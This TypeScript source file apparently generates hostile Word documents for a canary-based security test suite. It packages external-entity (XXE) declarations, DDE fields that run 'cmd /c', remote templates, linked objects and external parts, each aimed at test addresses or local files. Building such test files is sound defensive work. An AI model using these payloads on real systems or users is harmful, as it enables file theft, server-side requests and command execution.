import type { Canaries } from '../canaries.js';
import { zipFile } from '../../fixtures/office/zip-file.js';
import { escaped, type HostileDocument, type HostileDocuments } from './document.js';
import { link, office, type Part, relationships, types } from './ooxml.js';

/** Documents of Word. */
export const wordDocuments: HostileDocuments = {
  'linked pictures': (canaries) => {
    const addresses = canaries.all('docx-picture', 'png');
    return docx({
      body: addresses
        .map(
          (_, at) =>
            `<w:p><w:r>${picture(`r:link="l${at}"`)}</w:r></w:p><w:p><w:r>${picture(`r:embed="l${at}"`)}</w:r></w:p>`,
        )
        .join(''),
      links: addresses.map((it, at) => link(`l${at}`, 'image', it)),
    });
  },
  'linked pictures of VML': (canaries) => {
    const addresses = canaries.all('docx-vml', 'png');
    return docx({
      body: addresses
        .map(
          (it, at) =>
            `<w:p><w:r><w:pict><v:rect style="width:90pt;height:90pt"><v:imagedata r:id="l${at}" o:href="${escaped(it)}" src="${escaped(it)}"/><v:fill type="frame" r:id="l${at}" src="${escaped(it)}"/></v:rect></w:pict></w:r></w:p>`,
        )
        .join(''),
      links: addresses.map((it, at) => link(`l${at}`, 'image', it)),
    });
  },
  'fields that include and call': (canaries) =>
    docx({
      body: ['png', 'txt', 'html', 'rtf', 'odt']
        .flatMap((extension) => canaries.all('docx-field', extension))
        .flatMap((it) => [
          `INCLUDEPICTURE "${it}" \\d`,
          `INCLUDEPICTURE "${it}"`,
          `INCLUDETEXT "${it}"`,
          `IMPORT "${it}"`,
          `RD "${it}"`,
          `DDEAUTO soffice "${it}" a`,
          `DDE cmd "/c ${it}" a`,
          `LINK Excel.Sheet.8 "${it}" "A1" \\a \\t`,
          `DATABASE \\d "${it}"`,
        ])
        .map(field)
        .join(''),
    }),
  'a template': (canaries) =>
    docx({
      settings: '<w:attachedTemplate r:id="l0"/><w:linkStyles/><w:saveThroughXslt r:id="l2"/>',
      settingsLinks: ['dotm', 'odt', 'xsl'].flatMap((extension, at) =>
        canaries
          .all('docx-template', extension)
          .slice(at, at + 1)
          .map((it) => link(`l${at}`, 'attachedTemplate', it)),
      ),
    }),
  'a mail merge': (canaries) =>
    docx({
      settings: `<w:mailMerge><w:mainDocumentType w:val="catalog"/><w:linkToQuery/><w:dataType w:val="textFile"/><w:connectString w:val="${escaped(canaries.outside('docx-merge', 'csv')[0] ?? '')}"/><w:query w:val="SELECT * FROM ${escaped(canaries.files('csv')[0] ?? '')}"/><w:dataSource r:id="l0"/></w:mailMerge>`,
      settingsLinks: [link('l0', 'mailMergeSource', canaries.files('csv')[0] ?? '')],
      body: field('MERGEFIELD a'),
    }),
  'linked objects': (canaries) => {
    const addresses = ['odt', 'xls', 'html'].flatMap((it) => canaries.all('docx-object', it));
    return docx({
      body: addresses
        .map(
          (_, at) =>
            `<w:p><w:r><w:object><v:shape id="s${at}" style="width:90pt;height:90pt"/><o:OLEObject Type="Link" ProgID="Word.Document.8" ShapeID="s${at}" DrawAspect="Content" r:id="l${at}" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType><o:LockedField>false</o:LockedField></o:OLEObject></w:object></w:r></w:p>`,
        )
        .join(''),
      links: addresses.map((it, at) => link(`l${at}`, 'oleObject', it)),
    });
  },
  'HTML parts': (canaries) =>
    docx({
      body: '<w:altChunk r:id="part"/>',
      links: [relationship('part', 'aFChunk', 'chunk.html')],
      parts: {
        'word/chunk.html': {
          type: 'text/html',
          text: `<html><head>${canaries
            .all('docx-chunk', 'css')
            .map((it) => `<link rel="stylesheet" href="${escaped(it)}">`)
            .join('')}</head><body>${canaries
            .all('docx-chunk', 'png')
            .map(
              (it) =>
                `<img src="${escaped(it)}"><iframe src="${escaped(it)}"></iframe><object data="${escaped(it)}"></object>`,
            )
            .join('')}</body></html>`,
        },
      },
    }),
  'rich text parts': (canaries) =>
    docx({
      body: '<w:altChunk r:id="part"/>',
      links: [relationship('part', 'aFChunk', 'chunk.rtf')],
      parts: {
        'word/chunk.rtf': {
          type: 'application/rtf',
          text: `{\\rtf1 ${canaries
            .all('docx-rtf', 'png')
            .map((it) => `{\\field{\\*\\fldinst INCLUDEPICTURE "${it}"}{\\fldrslt before}}`)
            .join('')}}`,
        },
      },
    }),
  'external parts': (canaries) => {
    const addresses = ['html', 'rtf', 'txt', 'odt'].flatMap((it) => canaries.all('docx-part', it));
    const kinds = [
      'aFChunk',
      'subDocument',
      'header',
      'styles',
      'theme',
      'settings',
      'fontTable',
      'font',
      'video',
      'control',
      'chart',
      'diagramData',
      'customXml',
      'glossaryDocument',
    ];
    return docx({
      body: addresses
        .flatMap((_, at) => [`<w:altChunk r:id="aFChunk${at}"/>`, `<w:subDoc r:id="subDocument${at}"/>`])
        .join(''),
      links: addresses.flatMap((it, at) => kinds.map((kind) => link(`${kind}${at}`, kind, it))),
    });
  },
  'a frameset': (canaries) =>
    docx({
      parts: {
        'word/webSettings.xml': {
          type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml',
          text: office(
            'webSettings',
            `<w:frameset>${canaries
              .all('docx-frame', 'html')
              .map((_, at) => `<w:frame><w:sourceFileName r:id="l${at}"/></w:frame>`)
              .join('')}</w:frameset>`,
          ),
        },
        'word/_rels/webSettings.xml.rels': {
          text: relationships(canaries.all('docx-frame', 'html').map((it, at) => link(`l${at}`, 'frame', it))),
        },
      },
      links: [relationship('web', 'webSettings', 'webSettings.xml')],
    }),
  'a chart with external data': (canaries) =>
    docx({
      body: '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="3000000" cy="2000000"/><wp:docPr id="1" name="c"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart r:id="chart"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>',
      links: [relationship('chart', 'chart', 'charts/chart1.xml')],
      parts: {
        'word/charts/chart1.xml': {
          type: 'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
          text: chart(canaries),
        },
        'word/charts/_rels/chart1.xml.rels': {
          text: relationships([
            link('l0', 'oleObject', canaries.files('xlsx')[0] ?? ''),
            link('l1', 'package', canaries.outside('docx-chart', 'xlsx')[0] ?? ''),
          ]),
        },
      },
    }),
  'external entities': (canaries) =>
    docx({ body: `<w:p><w:r><w:t>&e0;&e1;&e2;</w:t></w:r></w:p>`, prologue: entities(canaries, 'docx-entity') }),
  'external entities in other parts': (canaries) =>
    docx({
      parts: {
        'docProps/core.xml': {
          type: 'application/vnd.openxmlformats-package.core-properties+xml',
          text: `<?xml version="1.0"?>${entities(canaries, 'docx-core')}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&e0;&e1;</dc:title></cp:coreProperties>`,
        },
        'word/styles.xml': {
          type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml',
          text: `<?xml version="1.0"?>${entities(canaries, 'docx-styles')}${office('styles', '<w:style w:styleId="a"><w:name w:val="&e0;"/></w:style>')}`,
        },
      },
      links: [relationship('styles', 'styles', 'styles.xml')],
    }),
};

/** A document type declaration with external entities e0, e1, …, each for a file or a URL. */
export function entities(canaries: Canaries, who: string): string {
  const addresses = [...canaries.files('txt').slice(0, 2), ...canaries.outside(who, 'txt')];
  return `<!DOCTYPE a [${addresses.map((it, at) => `<!ENTITY e${at} SYSTEM "${escaped(it)}"><!ENTITY % p${at} SYSTEM "${escaped(it)}">%p${at};`).join('')}]>`;
}

interface Docx {
  readonly body?: string;
  /** Relationships of the document. */
  readonly links?: readonly string[];
  readonly settings?: string;
  readonly settingsLinks?: readonly string[];
  readonly parts?: Readonly<Record<string, Part>>;
  readonly prologue?: string;
}

function docx({
  body = '',
  links = [],
  settings = '',
  settingsLinks = [],
  parts = {},
  prologue = '',
}: Docx): HostileDocument {
  const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
  const all: Readonly<Record<string, Part>> = {
    'word/document.xml': {
      type: `${word}.document.main+xml`,
      text: prologue + office('document', `<w:body><w:p><w:r><w:t>text</w:t></w:r></w:p>${body}</w:body>`),
    },
    'word/settings.xml': { type: `${word}.settings+xml`, text: office('settings', settings) },
    ...parts,
  };
  return {
    extension: 'docx',
    bytes: zipFile({
      '[Content_Types].xml': types(all),
      '_rels/.rels': relationships([
        relationship('r1', 'officeDocument', 'word/document.xml'),
        relationship('r2', 'metadata/core-properties', 'docProps/core.xml'),
      ]),
      'word/_rels/document.xml.rels': relationships([...links, relationship('settings', 'settings', 'settings.xml')]),
      'word/_rels/settings.xml.rels': relationships(settingsLinks),
      ...Object.fromEntries(Object.entries(all).map(([name, { text }]) => [name, text])),
    }),
  };
}

function relationship(id: string, type: string, target: string): string {
  return link(id, type, target, 'Internal');
}

function picture(blip: string): string {
  return `<w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${blip}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>`;
}

function field(instruction: string): string {
  const char = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}" w:dirty="true"/></w:r>`;
  return `<w:p>${char('begin')}<w:r><w:instrText xml:space="preserve"> ${escaped(instruction.replaceAll('\\\\', '\\\\\\\\'))} </w:instrText></w:r>${char('separate')}<w:r><w:t>before</w:t></w:r>${char('end')}</w:p>`;
}

function chart(canaries: Canaries): string {
  return `<?xml version="1.0"?><c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><c:chart><c:plotArea><c:barChart><c:barDir val="col"/><c:ser><c:idx val="0"/><c:order val="0"/><c:val><c:numRef><c:f>'${escaped(canaries.files('csv')[0] ?? '')}'!$A$1:$A$2</c:f><c:numCache><c:ptCount val="1"/><c:pt idx="0"><c:v>1</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser><c:axId val="1"/><c:axId val="2"/></c:barChart><c:catAx><c:axId val="1"/><c:crossAx val="2"/></c:catAx><c:valAx><c:axId val="2"/><c:crossAx val="1"/></c:valAx></c:plotArea></c:chart><c:externalData r:id="l0"><c:autoUpdate val="1"/></c:externalData><c:externalData r:id="l1"><c:autoUpdate val="1"/></c:externalData></c:chartSpace>`;
}
